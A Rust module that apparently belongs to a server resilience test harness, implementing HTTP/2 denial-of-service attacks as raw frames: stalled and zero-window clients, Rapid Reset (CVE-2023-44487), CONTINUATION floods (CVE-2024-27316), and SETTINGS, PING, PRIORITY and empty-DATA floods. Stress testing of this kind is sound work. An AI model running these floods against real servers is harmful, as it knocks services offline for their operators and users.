//! Attacks over HTTP/2, by frames of their own (RFC 9113).

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use super::attacker::{Attack, Attacker, tls};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Requests on each connection that waits for its client.
const STREAMS: u32 = 100;
const MAX_WINDOW: u32 = 0x7fff_ffff;

pub(super) fn attacks() -> Vec<Attack> {
    let attack = Attack::over_tcp;
    vec![
        attack(
            "http2-stalled",
            "250 clients that ask for 100 files of 100 MB each, and read nothing",
            250,
            |address| -> Attacker { Box::pin(stalled(address, MAX_WINDOW, None)) },
        ),
        attack(
            "http2-stalled-pings",
            "the same with a PING every 3 s",
            250,
            |address| Box::pin(stalled(address, MAX_WINDOW, Some(Duration::from_secs(3)))),
        ),
        attack(
            "http2-no-window",
            "250 clients that ask for 100 files of 100 MB each, and grant no window",
            250,
            |address| Box::pin(stalled(address, 0, None)),
        ),
        attack(
            "http2-rapid-reset",
            "4 clients that reset each request at once (CVE-2023-44487)",
            4,
            |address| Box::pin(flood(address, rapid_resets)),
        ),
        attack(
            "http2-continuation",
            "4 clients whose header sections never end (CVE-2024-27316)",
            4,
            |address| Box::pin(flood(address, continuations)),
        ),
        attack(
            "http2-settings",
            "4 clients that send SETTINGS for ever",
            4,
            |address| {
                Box::pin(flood(address, |_| {
                    frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])
                }))
            },
        ),
        attack(
            "http2-pings",
            "4 clients that send PING for ever",
            4,
            |address| Box::pin(flood(address, |_| frame(PING, 0, 0, &[0; 8]))),
        ),
        attack(
            "http2-priorities",
            "4 clients that send PRIORITY for ever",
            4,
            |address| Box::pin(flood(address, |_| frame(PRIORITY, 0, 7, &[0, 0, 0, 0, 15]))),
        ),
        attack(
            "http2-empty-data",
            "4 clients whose request has empty DATA for ever",
            4,
            |address| Box::pin(flood(address, empty_data)),
        ),
    ]
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let head = [length[1], length[2], length[3], kind, flags];
    [&head[..], &stream.to_be_bytes(), payload].concat()
}

/// A header section in HPACK: `method` by the static table, https, `path` and localhost.
fn fields(method: u8, path: &str) -> Vec<u8> {
    let literal = |name: u8, value: &str| [&[name, value.len() as u8], value.as_bytes()].concat();
    [
        vec![method, 0x87],
        literal(4, path),
        literal(1, "localhost"),
    ]
    .concat()
}

/// Index 2 of the static table: `:method: GET`; 3: `POST`.
const GET: u8 = 0x82;
const POST: u8 = 0x83;

async fn begin(address: SocketAddr, window: u32) -> Result<TlsStream<TcpStream>> {
    let mut tls = tls(address, "h2").await?;
    let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
    let more = (MAX_WINDOW - 65_535).to_be_bytes();
    let all = [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
        frame(SETTINGS, 0, 0, &settings),
        frame(WINDOW_UPDATE, 0, 0, &more),
    ];
    tls.write_all(&all.concat()).await?;
    Ok(tls)
}

async fn stalled(address: SocketAddr, window: u32, pings: Option<Duration>) -> Result<()> {
    let mut tls = begin(address, window).await?;
    for stream in (1..).step_by(2).take(STREAMS as usize) {
        let flags = END_STREAM | END_HEADERS;
        tls.write_all(&frame(HEADERS, flags, stream, &fields(GET, "/large.bin")))
            .await?;
    }
    if window == 0 {
        tls.read_to_end(&mut Vec::new()).await?;
    }
    let interval = pings.unwrap_or(Duration::from_secs(1));
    loop {
        tokio::time::sleep(interval).await;
        match pings {
            Some(_) => tls.write_all(&frame(PING, 0, 0, &[0; 8])).await?,
            // Without reading, only this shows an end.
            None => tls
                .get_ref()
                .0
                .ready(tokio::io::Interest::ERROR | tokio::io::Interest::WRITABLE)
                .await
                .map(drop)?,
        }
    }
}

/// Sends the `frames` of each count, as fast as the server takes them.
async fn flood(address: SocketAddr, frames: fn(u32) -> Vec<u8>) -> Result<()> {
    const BATCH: u32 = 200;
    let (mut read, mut write) = tokio::io::split(begin(address, MAX_WINDOW).await?);
    let writing = async {
        for count in (0..).step_by(BATCH as usize) {
            let batch: Vec<u8> = (count..count + BATCH).flat_map(frames).collect();
            if write.write_all(&batch).await.is_err() {
                return;
            }
        }
    };
    let reading = async {
        let mut buffer = [0; 16 * 1024];
        while read.read(&mut buffer).await.is_ok_and(|n| n > 0) {}
    };
    tokio::select! {
        () = writing => {}
        () = reading => {}
    }
    Ok(())
}

fn rapid_resets(count: u32) -> Vec<u8> {
    let stream = 2 * count + 1;
    let request = frame(
        HEADERS,
        END_STREAM | END_HEADERS,
        stream,
        &fields(GET, "/large.bin"),
    );
    [request, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
}

fn continuations(count: u32) -> Vec<u8> {
    let filler = [&[0x00, 0x01, b'a', 0x7f, 0x00][..], &[b'x'; 127]].concat();
    match count {
        0 => frame(HEADERS, END_STREAM, 1, &fields(GET, "/")),
        _ => frame(CONTINUATION, 0, 1, &filler),
    }
}

fn empty_data(count: u32) -> Vec<u8> {
    match count {
        0 => frame(HEADERS, END_HEADERS, 1, &fields(POST, "/small.bin")),
        _ => frame(DATA, 0, 1, &[]),
    }
}
